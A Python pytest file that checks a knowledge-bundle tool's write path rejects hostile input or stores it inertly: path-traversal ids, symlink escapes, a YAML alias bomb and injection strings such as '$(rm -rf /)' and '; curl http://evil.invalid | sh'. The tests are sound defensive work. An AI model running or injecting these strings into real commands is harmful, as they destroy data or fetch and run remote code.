"""Hostile input: refused with the contract's code and no file touched."""

from __future__ import annotations

import os

import pytest

from knowspec.impl.context import CallContext
from knowspec.impl.errors import ToolError
from knowspec.impl.okf.tools import write as write_tools
from time_guard import within
from tool_args import tool_args
from write_helpers import CONCEPT, make_bundle, patch_args, preview, apply, tree_bytes

C = "arch/cache"
LIFECYCLE = {"kind": "set_lifecycle", "concept_id": C, "lifecycle": {"status": "stable", "stale_after": None}}


def _preview_error(bundle_path, ops, **kw) -> ToolError:
    with pytest.raises(ToolError) as err:
        write_tools.preview_concept_patch(patch_args(bundle_path, ops, **kw), CallContext())
    return err.value


@pytest.mark.parametrize("concept_id", ["../escape", "arch/../../x", "/abs", "a//b", "index", "x/log", ".hidden/x",
                                        "a:b", "c.md", " lead", "a\\b", "a\x00b"])
def test_concept_id_escapes_are_invalid_request(bundle, concept_id):
    before = tree_bytes(bundle)
    op = dict(LIFECYCLE, concept_id=concept_id)
    assert _preview_error(bundle, [op]).code == "invalid_request"
    assert tree_bytes(bundle) == before


@pytest.mark.parametrize("path", ["relative/path", "/tmp/../tmp", "/tmp/", " /tmp"])
def test_unclean_bundle_paths_are_invalid_request(path):
    assert _preview_error(path, [LIFECYCLE]).code == "invalid_request"


def test_symlinked_bundle_root_is_refused(bundle, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(bundle)
    assert _preview_error(link, [LIFECYCLE]).code == "invalid_request"


def test_symlinked_concept_is_never_written_through(tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text(CONCEPT)
    b = make_bundle(tmp_path / "b", {"index.md": "---\nokf_version: \"0.2\"\n---\n"})
    (b / "arch").mkdir()
    (b / "arch" / "cache.md").symlink_to(outside)
    p = preview(b, [LIFECYCLE])  # a link is invisible to the read-only capture
    assert p["status"] == "rejected"
    assert outside.read_text() == CONCEPT


def test_symlinked_directory_in_bundle_blocks_the_store(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    b = make_bundle(tmp_path / "b", {"arch/cache.md": CONCEPT})
    (b / "ext").symlink_to(outside)
    p = preview(b, [LIFECYCLE])
    (b / ".okf").mkdir()
    with pytest.raises(ToolError) as err:
        apply(b, [LIFECYCLE], p["base_revision"], p["plan_digest"])
    assert err.value.code == "operation_rejected"
    assert list(outside.iterdir()) == []


def test_oversized_actor_is_resource_limit(bundle):
    assert _preview_error(bundle, [LIFECYCLE], actor="human:" + "a" * 300, unchecked=True).code == "resource_limit"


def test_oversized_argument_payload_is_resource_limit(bundle):
    op = {"kind": "put_attested_computation", "concept_id": C, "attested_computation": {
        "mode": "inline", "runtime": "py", "parameters": [], "inline_computation": "x" * (1 << 20),
        "inline_language": "py", "executor": {"resource": "e", "receipt": ["r"]}, "attester": {"resource": "a"}}}
    assert _preview_error(bundle, [op] * 17).code == "resource_limit"


@pytest.mark.parametrize("frontmatter,code", [
    ("type: Note\nbase: &b {by: 'human:x'}\ngenerated: *b\n", "yaml_alias_unsupported"),
    ("type: Note\nstatus: draft\nstatus: stable\n", "yaml_duplicate_key"),
    ("type: Note\n<<: {status: draft}\n", "yaml_merge_key_unsupported"),
    ("type: Note\nsources: [{id: rfc, resource: r}]\n", "yaml_flow_style_unsupported"),
    ("{type: Note}\n", "yaml_flow_style_unsupported"),
    ("type: [unclosed\n", "yaml_syntax_error"),
])
def test_ambiguous_yaml_fails_closed(tmp_path, frontmatter, code):
    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{frontmatter}---\nbody\n"})
    before = tree_bytes(b)
    op = {"kind": "put_source", "concept_id": C, "source": {"id": "new", "resource": "https://x"}}
    p = preview(b, [op])
    assert p["status"] == "rejected"
    assert [d["code"] for d in p["diagnostics"] if d["severity"] == "ERROR"] == [code]
    a = apply(b, [op], p["base_revision"], p["plan_digest"])
    assert a["status"] == "rejected"
    assert tree_bytes(b) == before


def test_ambiguous_source_selection_is_rejected(tmp_path):
    fm = "type: Note\nsources:\n  - id: a\n    resource: r1\n  - id: a\n    resource: r2\n"
    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{fm}---\n"})
    p = preview(b, [{"kind": "remove_source", "concept_id": C, "source_id": "a"}])
    assert p["status"] == "rejected" and p["diagnostics"][0]["code"] == "ambiguous_source_selector"


def test_anonymous_source_with_unknown_keys_cannot_be_proven_equal(tmp_path):
    fm = "type: Note\nsources:\n  - resource: r1\n    x-extra: 1\n"
    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{fm}---\n"})
    p = preview(b, [{"kind": "remove_source", "concept_id": C, "source": {"resource": "r1"}}])
    assert p["status"] == "rejected" and p["diagnostics"][0]["code"] == "source_equality_unprovable"


@pytest.mark.parametrize("executor", ["$(rm -rf /)", "`id`", "; curl http://evil.invalid | sh", "a: b # c", "- x",
                                      "'quoted'", '"dq"', "{flow: 1}", "&anchor", "*alias", "!!python/object:os.system"])
def test_malicious_executor_strings_are_written_inert(bundle, executor):
    op = {"kind": "put_attested_computation", "concept_id": C, "attested_computation": {
        "mode": "file", "runtime": "sh", "parameters": [], "computation_path": executor,
        "executor": {"resource": executor, "receipt": [executor]}, "attester": {"resource": executor}}}
    p = preview(bundle, [op])
    apply(bundle, [op], p["base_revision"], p["plan_digest"])
    from knowspec.impl.okf.parsing.frontmatter import load_yaml_mapping
    from knowspec.impl.okf.write.document import split_document
    fm = load_yaml_mapping(split_document((bundle / "arch/cache.md").read_bytes()).frontmatter)
    assert str(fm["executor"]["resource"]) == executor
    assert [str(x) for x in fm["executor"]["receipt"]] == [executor]
    assert str(fm["attester"]["resource"]) == executor and str(fm["computation"]) == executor


@pytest.mark.parametrize("bad", ["line\nbreak", "tab\there", "nul\x00", "del\x7f"])
def test_control_characters_in_free_text_are_invalid_request(bundle, bad):
    op = {"kind": "put_source", "concept_id": C, "source": {"id": bad, "resource": "https://x"}}
    assert _preview_error(bundle, [op]).code == "invalid_request"


def test_private_store_dir_as_symlink_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    b = make_bundle(tmp_path / "b", {"arch/cache.md": CONCEPT})
    os.symlink(outside, b / ".okf")
    p = preview(b, [LIFECYCLE])
    with pytest.raises(ToolError) as err:
        apply(b, [LIFECYCLE], p["base_revision"], p["plan_digest"])
    assert err.value.code == "operation_rejected"
    assert list(outside.iterdir()) == []
    assert (b / "arch/cache.md").read_text() == CONCEPT


def test_rejection_messages_stay_within_the_diagnostic_cap(tmp_path):
    key = "k" * 2000
    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\ntype: Note\n{key}: 1\n{key}: 2\n---\n"})
    p = preview(b, [LIFECYCLE])
    assert p["status"] == "rejected"
    assert all(len(d["message"].encode()) <= 512 for d in p["diagnostics"])


# --- writes publication could never make: refused before the journal, the bundle left usable ---


def _write_concept(bundle, concept_id: str):
    args = tool_args("write_concept", bundle_path=str(bundle), concept_id=concept_id,
                     frontmatter="type: Note\ntitle: W\n", body="# W\n")
    return write_tools.write_concept(args, CallContext())


def _refused_and_still_writable(bundle, concept_id: str) -> ToolError:
    before = tree_bytes(bundle)
    with pytest.raises(ToolError) as err:
        _write_concept(bundle, concept_id)
    assert tree_bytes(bundle) == before
    assert not (bundle / ".okf" / "journal.json").exists()
    assert _write_concept(bundle, "after/ok").structured["status"] == "success"
    return err.value


@pytest.mark.parametrize("concept_id", ["a" * 300, "x/" + "b" * 256, "d" * 256 + "/x", "é" * 127])
def test_a_concept_id_segment_longer_than_a_file_name_is_invalid_request(bundle, concept_id):
    err = _refused_and_still_writable(bundle, concept_id)
    assert (err.code, err.message) == (
        "invalid_request", "concept_id segment is too long for a file name (at most 255 bytes, with .md)")


def test_a_concept_id_segment_of_exactly_a_file_name_is_written(bundle):
    concept_id = "é" * 126  # 252 bytes, 255 with .md
    assert _write_concept(bundle, concept_id).structured["path"] == concept_id + ".md"
    assert (bundle / (concept_id + ".md")).is_file()


def test_a_file_where_a_folder_must_be_is_invalid_request(bundle):
    (bundle / "notes").write_bytes(b"a plain file\n")
    err = _refused_and_still_writable(bundle, "notes/x")
    assert (err.code, err.message) == ("invalid_request", "apply concept patch: cannot write 'notes/x.md': "
                                       "'notes' is not a folder")


def test_a_folder_where_the_concept_file_must_be_is_invalid_request(bundle):
    (bundle / "x.md").mkdir()
    err = _refused_and_still_writable(bundle, "x")
    assert (err.code, err.message) == ("invalid_request", "apply concept patch: cannot write 'x.md': it is a folder")


def test_names_over_the_file_systems_own_limit_are_refused_before_the_journal(bundle, monkeypatch):
    from knowspec.impl.okf.write import journal

    monkeypatch.setattr(journal, "_name_max", lambda fd: 12)  # a file system with short names
    err = _refused_and_still_writable(bundle, "thirteen-long")  # 16 bytes with .md
    assert (err.code, err.message) == ("invalid_request", "apply concept patch: cannot write 'thirteen-long.md': "
                                       "a name in it is longer than the file system takes")


def test_a_folder_this_process_may_not_change_is_refused_before_the_journal(bundle, monkeypatch):
    """A read-only folder had let an apply stage and journal, then fail half-way through
    publication and hold the bundle locked (refused by the kernel, not this check, as root)."""
    import os as os_module

    from knowspec.impl.okf.write import journal

    real = os_module.access

    def read_only_notes(path, mode, *, dir_fd=None, effective_ids=False, follow_symlinks=True):
        if dir_fd is not None and os_module.readlink(f"/proc/self/fd/{dir_fd}").endswith("/notes"):
            return False
        return real(path, mode, dir_fd=dir_fd, effective_ids=effective_ids, follow_symlinks=follow_symlinks)

    (bundle / "notes").mkdir()
    monkeypatch.setattr(journal.os, "access", read_only_notes)
    err = _refused_and_still_writable(bundle, "notes/x")
    assert (err.code, err.message) == ("invalid_request", "apply concept patch: cannot write 'notes/x.md': "
                                       "its folder is read-only")


def test_a_bundle_inside_a_bundle_with_a_store_is_not_written_through_either(bundle):
    """Each store locks its own root: a writer given the outer folder and one given the inner had
    both applied, and one change was lost (18 races in 20)."""
    inner = bundle / "arch"
    _write_concept(bundle, "notes/outer")  # the outer bundle now keeps a store
    before = tree_bytes(bundle)
    with pytest.raises(ToolError) as err:
        _write_concept(inner, "cache")
    assert (err.value.code, err.value.message) == (
        "invalid_request", "apply concept patch: the bundle lies inside another bundle, which keeps its own store: "
                           "write through that bundle")
    assert tree_bytes(bundle) == before


def test_a_folder_holding_another_bundles_store_is_not_written_into(tmp_path):
    outer = make_bundle(tmp_path / "outer", {"index.md": '---\nokf_version: "0.2"\n---\n# Index\n\n- [A](ops/a.md)\n',
                                             "ops/a.md": "---\ntype: Note\n---\na\n"})
    (outer / "ops" / ".okf").mkdir()  # as a writer given outer/ops as its bundle leaves it
    before = tree_bytes(outer)
    with pytest.raises(ToolError) as err:
        _write_concept(outer, "ops/a")
    assert err.value.message == ("apply concept patch: cannot write 'ops/a.md': 'ops' is another bundle, "
                                 "with its own store")
    assert tree_bytes(outer) == before
    assert _write_concept(outer, "notes/c").structured["status"] == "success"  # elsewhere in it, as before


def test_a_recursive_yaml_alias_in_written_frontmatter_is_resource_limit(bundle):
    before = tree_bytes(bundle)
    args = tool_args("write_concept", bundle_path=str(bundle), concept_id="alias-bomb",
                     frontmatter="type: Note\nx: &a [*a]\n", body="# x\n")
    with within(10), pytest.raises(ToolError) as err:
        write_tools.write_concept(args, CallContext())
    assert (err.value.code, err.value.message) == ("resource_limit", "concept frontmatter exceeds the YAML limits")
    assert tree_bytes(bundle) == before


# --- writes whose result the read tools would refuse: refused, so the bundle stays readable ---

def _refused_and_still_readable(bundle, concept_id: str) -> ToolError:
    from knowspec.impl.okf.tools import read as read_tools

    before = tree_bytes(bundle)
    with pytest.raises(ToolError) as err:
        _write_concept(bundle, concept_id)
    assert tree_bytes(bundle) == before
    listed = read_tools.list_concepts(tool_args("list_concepts", bundle_path=str(bundle)), CallContext())
    assert listed.structured["concepts"]  # every read still answers
    return err.value


def test_a_write_past_the_file_limit_is_resource_limit(bundle, monkeypatch):
    from knowspec.impl.okf.bundle import snapshot as snap

    monkeypatch.setattr(snap, "MAX_FILES", len(tree_bytes(bundle)))  # the bundle is at the limit
    err = _refused_and_still_readable(bundle, "one/more")
    assert err.code == "resource_limit"
    assert err.message.startswith("the write would make the bundle exceed MCP resource limits: it would hold")


def test_a_write_past_the_byte_limit_is_resource_limit(bundle, monkeypatch):
    from knowspec.impl.okf.bundle import snapshot as snap

    monkeypatch.setattr(snap, "MAX_TOTAL_BYTES", sum(map(len, tree_bytes(bundle).values())) + 10)
    err = _refused_and_still_readable(bundle, "bigger")
    assert err.code == "resource_limit" and "bytes, over the limit" in err.message


def test_a_concept_deeper_than_the_read_limit_is_resource_limit(bundle):
    err = _refused_and_still_readable(bundle, "/".join(["d"] * 64) + "/leaf")  # 65 segments
    assert err.code == "resource_limit" and "deeper than 64 segments" in err.message
    assert _write_concept(bundle, "/".join(["d"] * 63) + "/leaf").structured["status"] == "success"


def test_a_file_past_the_per_file_limit_is_resource_limit(bundle, monkeypatch):
    from knowspec.impl.okf.bundle import limits

    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 20)
    err = _refused_and_still_readable(bundle, "long")
    assert err.code == "resource_limit" and "a file would hold" in err.message
